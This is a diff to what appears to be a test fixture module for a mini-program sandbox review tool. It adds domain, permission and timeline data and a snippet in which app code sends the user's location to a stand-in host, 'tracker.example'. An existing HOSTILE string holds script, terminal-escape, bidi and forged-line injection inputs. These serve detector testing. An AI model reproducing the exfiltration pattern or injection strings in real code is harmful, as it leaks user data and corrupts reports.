@@ -7,6 +7,12 @@ from pathlib import Path
 
 from mpsandbox.review.model import (
     BundleSummary,
+    DomainContact,
+    PermissionUse,
+    Screen,
+    Snippet,
+    Timeline,
+    TimelineItem,
     Coverage,
     ErrorCause,
     PackageCoverage,
@@ -22,6 +28,7 @@ from mpsandbox.review.model import (
 )
 
 ROOT = Path(__file__).resolve().parents[2]
+PNG_1PX = ("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8BQDwAEhQGAhKmMIQAAAABJRU5ErkJggg==")
 SARIF_SCHEMA = json.loads((ROOT / "fixtures/schemas/sarif-schema-2.1.0.json").read_text())
 HOSTILE = ("<script>alert(1)</script> \x1b[31mRED\x1b[0m \x1b]0;title\x07 ]]> \x00 \u202eevil\u202c "
            "\r\nforged: approve\u2028forged: too \ufeff\u200b")
@@ -52,10 +59,16 @@ def default_findings() -> list[Finding]:
                 location=Location(file="pages/a/a.js", line=12, column=5, function="go"),
                 fingerprint="data-to-network:pages/a/a.js:12:tracker.example",
                 evidence=[Evidence(description="flow", run="allow", t=3000, page="pages/a/a", event_seq=7,
-                                   event_kind="api_call", location=Location(file="pages/a/a.js", line=12, column=5),
+                                   event_kind="flow", location=Location(file="pages/a/a.js", line=12, column=5),
                                    stack=[Location(file="pages/a/a.js", line=12, column=5),
                                           Location(file="utils/api.js", line=3, function="post")],
-                                   value={"destination": "tracker.example"}),
+                                   value={"destination": "tracker.example"},
+                                   snippet=Snippet(file="pages/a/a.js", start_line=10, line=12,
+                                                   lines=["go() {", "  const loc = this.loc;",
+                                                          "  wx.request({url: 'https://tracker.example', data: loc})",
+                                                          "}"])),
+                          Evidence(description="source: wx.getLocation returned the location", run="allow", t=2900,
+                                   event_kind="api", location=Location(file="pages/a/a.js", line=4, column=3)),
                           Evidence(description="flow in the deny walk too", run="deny", t=3100)]),
         Finding(rule="orphan-timer", category="lifecycle", severity=Severity.WARNING, message="interval after unload",
                 evidence=[Evidence(description="timer fired", run="deny", t=9000, page="pages/b/b")]),
@@ -93,10 +106,27 @@ def make_report(findings: list[Finding] | None = None, *, name: str = "shop", ru
                              errors_sandbox=1,
                              error_causes=[ErrorCause(cause="app", origin="app", count=2, description="the app"),
                                            ErrorCause(cause="unknown-api", origin="sandbox", count=1,
-                                                      description="an API the sandbox does not know")])),
+                                                      description="an API the sandbox does not know")]),
+                         domains=[DomainContact(domain="api.example.com", calls=3, apis={"wx.request": 3},
+                                                allowed=True, example_url="https://api.example.com/menu"),
+                                  DomainContact(domain="tracker.example", calls=1, apis={"wx.request": 1},
+                                                allowed=False, first_location=Location(file="pages/a/a.js", line=12))],
+                         permissions=[PermissionUse(scope="scope.userLocation", apis=["getLocation"], prompts=1,
+                                                    granted=1, declared=False)],
+                         timeline=Timeline(turns=40, virtual_ms=12_500, items=[
+                             TimelineItem(lane="page", turn=0, t=0, label="launch pages/a/a"),
+                             TimelineItem(lane="api", turn=3, t=0, label="wx.getLocation"),
+                             TimelineItem(lane="user", turn=10, t=3000, label="tap go"),
+                             TimelineItem(lane="api", turn=10, t=3000, label="wx.request", detail="tracker.example"),
+                             TimelineItem(lane="setData", turn=11, t=3000, label="setData 120 B"),
+                             TimelineItem(lane="timer", turn=20, t=9000, label="fire #1", status="warn"),
+                             TimelineItem(lane="error", turn=39, t=12_500, label="uncaught TypeError",
+                                          status="fail")]),
+                         screens=[Screen(route="pages/a/a", png_base64=PNG_1PX)]),
               RunFigures(mode="deny", engine="native", cpu_unit="poll", end_reason="cpu-budget",
                          end_detail="the CPU budget ran out", wall_ms=40.0)],
         rules=RULES if rules is None else rules,
+        allow_domains=["api.example.com"],
         problems=problems or [],
         error=error,
     )
